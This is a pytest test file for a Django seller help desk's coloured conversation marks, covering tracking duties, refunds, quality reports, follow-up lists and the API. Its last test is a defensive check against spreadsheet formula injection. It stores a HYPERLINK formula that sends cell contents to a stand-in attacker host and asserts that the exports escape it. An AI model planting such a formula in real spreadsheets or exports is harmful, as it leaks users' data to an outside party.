"""Colour marks and their duties (R-06)."""

from __future__ import annotations

import zoneinfo

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from kefu.conversations import marks, state
from kefu.conversations.models import ConversationMark, Message
from kefu.desk import marks as desk_marks
from tests.conftest import login_client
from tests.helpers import add_product, buyer_says, online

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english_seller(settings):
    # The refusals asserted here are read in English (the interface's other language).
    settings.LANGUAGE_CODE = "en"


@pytest.fixture
def conv(shop, after_agent):
    online(after_agent)
    return buyer_says(
        shop, entry_point="order_detail", order="8001", text="Parcel lost!"
    ).conversation


def test_yellow_mark_blocks_resolution_until_the_new_number_is_sent(conv, after_agent):
    mark = marks.add_mark(actor=after_agent, conversation=conv, color="yellow")
    with pytest.raises(ValidationError, match="tracking number"):
        state.resolve_conversation(actor=after_agent, conversation=conv)
    with pytest.raises(ValidationError, match="stays until"):
        marks.clear_mark(actor=after_agent, mark=mark)
    with pytest.raises(ValidationError, match="must contain"):
        desk_marks.send_new_tracking(
            actor=after_agent,
            mark=mark,
            tracking_number="LP0099CN",
            carrier="Cainiao",
            text="A new parcel is coming",
        )
    desk_marks.send_new_tracking(
        actor=after_agent,
        mark=mark,
        tracking_number="LP0099CN",
        carrier="Cainiao",
        text="New tracking number: LP0099CN",
    )
    sent = Message.objects.filter(conversation=conv, direction="agent").last()
    assert "LP0099CN" in sent.text
    state.resolve_conversation(actor=after_agent, conversation=conv)
    marks.clear_mark(actor=after_agent, mark=mark)
    mark.refresh_from_db()
    assert mark.cleared_at is not None and mark.data["tracking_number"] == "LP0099CN"


def test_green_mark_records_the_refund(conv, after_agent):
    mark = marks.add_mark(
        actor=after_agent, conversation=conv, color="green", amount="12.5", channel="paypal"
    )
    assert mark.data == {"amount": "12.50", "currency": "USD", "channel": "paypal"}
    for bad in ({"amount": "-3"}, {"amount": "abc"}, {"amount": "3", "channel": "cash"}):
        with pytest.raises(ValidationError):
            marks.add_mark(actor=after_agent, conversation=conv, color="purple", **bad)
    assert ConversationMark.objects.count() == 1


def test_one_active_mark_per_colour(conv, after_agent):
    marks.add_mark(actor=after_agent, conversation=conv, color="blue")
    with pytest.raises(ValidationError, match="already"):
        marks.add_mark(actor=after_agent, conversation=conv, color="blue")


def test_red_marks_feed_the_quality_report_per_product(shop, conv, after_agent, owner):
    lamp = add_product(shop, "L-1", "Desk lamp")
    strip = add_product(shop, "S-1", "Light strip")
    marks.add_mark(
        actor=after_agent, conversation=conv, color="red", product_id=lamp.pk, defect="cracked base"
    )
    other = buyer_says(shop, buyer="b-2", entry_point="order_detail").conversation
    marks.add_mark(
        actor=after_agent, conversation=other, color="red", product_id=lamp.pk, defect="flickers"
    )
    third = buyer_says(shop, buyer="b-3", entry_point="order_detail").conversation
    marks.add_mark(
        actor=after_agent, conversation=third, color="red", product_id=strip.pk, defect="glue weak"
    )
    with pytest.raises(ValidationError, match="defect"):
        marks.add_mark(actor=after_agent, conversation=third, color="red", product_id=strip.pk)
    today = timezone.localdate(timezone=zoneinfo.ZoneInfo(shop.timezone))  # the shop's day
    rows = marks.quality_report(owner, start=today.replace(day=1), end=today)
    assert [(r.product, r.count) for r in rows] == [("Desk lamp", 2), ("Light strip", 1)]
    assert rows[0].defects == ["cracked base", "flickers"]
    csv = login_client(owner).get("/marks/quality/?format=csv").content.decode()
    assert "Desk lamp,2,cracked base | flickers" in csv


def test_blue_marks_stay_on_the_follow_up_list_until_cleared(conv, after_agent):
    mark = marks.add_mark(actor=after_agent, conversation=conv, color="blue", note="VIP buyer")
    assert list(marks.follow_up_list(after_agent)) == [mark]
    marks.clear_mark(actor=after_agent, mark=mark)
    assert list(marks.follow_up_list(after_agent)) == []


def test_inbox_filters_by_mark(shop, conv, after_agent, owner):
    marks.add_mark(actor=after_agent, conversation=conv, color="blue")
    buyer_says(shop, buyer="b-9", name="Unmarked Ulla")
    page = login_client(owner).get("/inbox/list/?view=all&mark=blue").content.decode()
    assert "Ivan" in page and "Unmarked Ulla" not in page


def test_marks_over_the_api(conv, after_agent):
    client = login_client(after_agent)
    created = client.post(
        f"/api/v1/conversations/{conv.pk}/marks",
        data={"color": "yellow"},
        content_type="application/json",
    )
    assert created.status_code == 201
    mark_id = created.json()["id"]
    blocked = client.post(
        f"/api/v1/conversations/{conv.pk}/resolve", content_type="application/json"
    )
    assert blocked.status_code == 400 and "tracking number" in blocked.json()["detail"]
    done = client.post(
        f"/api/v1/conversations/{conv.pk}/marks/{mark_id}/tracking",
        data={"tracking_number": "RB123CN", "text": "New number RB123CN"},
        content_type="application/json",
    )
    assert done.status_code == 200 and done.json()["duty_done"] is True


def test_a_formula_in_a_defect_reaches_the_seller_as_text(shop, conv, after_agent, owner):
    """Issue 10 item 8: what an agent or buyer typed must never run in the seller's sheet."""
    import io

    from openpyxl import load_workbook

    lamp = add_product(shop, "L-1", "=1+1 Desk lamp")
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    marks.add_mark(
        actor=after_agent, conversation=conv, color="red", product_id=lamp.pk, defect=payload
    )
    client = login_client(owner)

    csv = client.get("/marks/quality/?format=csv").content.decode()
    xlsx = client.get("/marks/quality/?format=xlsx")

    assert f"'{payload}" in csv.replace('""', '"')
    assert "'=1+1 Desk lamp" in csv
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert {c.value for c in cells} >= {"'=1+1 Desk lamp", f"'{payload}"}
